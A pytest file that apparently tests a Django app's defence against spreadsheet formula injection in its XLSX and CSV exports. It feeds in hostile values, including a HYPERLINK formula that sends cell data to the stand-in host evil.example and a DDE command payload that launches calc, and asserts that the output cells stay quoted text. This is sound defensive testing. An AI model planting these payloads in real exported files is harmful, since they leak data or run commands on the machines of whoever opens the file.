"""Issue #15, F8: no text the app writes to a spreadsheet or a CSV becomes a formula.

Each writer is fed a hostile value and the real file is read back (openpyxl, csv): no cell is
a formula, and the text is kept whole after the single quote OWASP recommends.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from binome.lib.spreadsheets import safe_cell
from conftest import Cast

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Invoice")'
STARTS = ["=1+2", "+33 6 12 34 56 78", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))  # formulas are read as formulas, not values
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(cells: list[Any], hostile: str) -> None:
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + hostile in [c.value for c in cells]


@pytest.mark.parametrize("text", STARTS)
def test_F8_safe_cell_quotes_text_a_spreadsheet_would_run(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [None, -12.5, -3, 0, Decimal("-1.20"), date(2026, 1, 2), "Acme", "", "a=b"])
def test_F8_safe_cell_leaves_numbers_dates_and_plain_text_alone(value: Any) -> None:
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


@pytest.mark.django_db
def test_F8_a_company_named_like_a_formula_is_text_in_the_ledger_xlsx(cast: Cast) -> None:
    from binome.sponsorship import documents, selectors
    from binome.sponsorship.models import Agreement
    from binome.sponsorship.tests.helpers import signed_agreement

    cast.acme.name = HOSTILE
    cast.acme.save()
    signed_agreement(cast.acme)
    content = documents.ledger_xlsx(Agreement.objects.all(), selectors.companies_for_staff(cast.nadia))
    cells = xlsx_cells(content)
    assert_no_formula(cells, HOSTILE)
    # Amounts stay numbers.
    assert any(isinstance(c.value, (int, float)) and c.value > 0 for c in cells)


@pytest.mark.django_db
def test_F8_a_cohort_named_like_a_formula_is_text_in_the_impact_report_xlsx(cast: Cast, client_for: Any) -> None:
    cohort = cast.paris_duo.cohort
    cohort.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    cohort.save()
    response = client_for(cast.amara).get(f"/staff/impact/territory/{cast.paris.pk}/report.xlsx")
    assert response.status_code == 200
    assert_no_formula(xlsx_cells(response.content), cohort.name)


def test_F8_the_processing_register_csv_quotes_a_formula() -> None:
    from binome.privacy import register
    from binome.privacy.inventory import register_rows

    first = register_rows()[0]
    hostile_row = type(first)(**{**first.__dict__, "purpose": HOSTILE})
    rows = list(csv.reader(io.StringIO(register.as_csv([hostile_row]))))
    assert "'" + HOSTILE in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_F8_the_import_templates_hold_no_formula() -> None:
    from binome.sourcing.importing import template_bytes

    assert not [c for c in xlsx_cells(template_bytes("xlsx")) if c.data_type == "f"]
    rows = list(csv.reader(io.StringIO(template_bytes("csv").decode("utf-8-sig")), delimiter=";"))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_F8_no_module_builds_a_workbook_or_a_csv_writer_but_the_safe_ones() -> None:
    """A new export must use binome.lib.spreadsheets (workbook(), csv_writer(), DictWriter); its
    openpyxl side lives in binome/lib/xlsx_workbook.py."""
    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|openpyxl import Workbook")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name not in {"spreadsheets.py", "xlsx_workbook.py"}
        and pattern.search(path.read_text())
    ]
    assert offenders == []
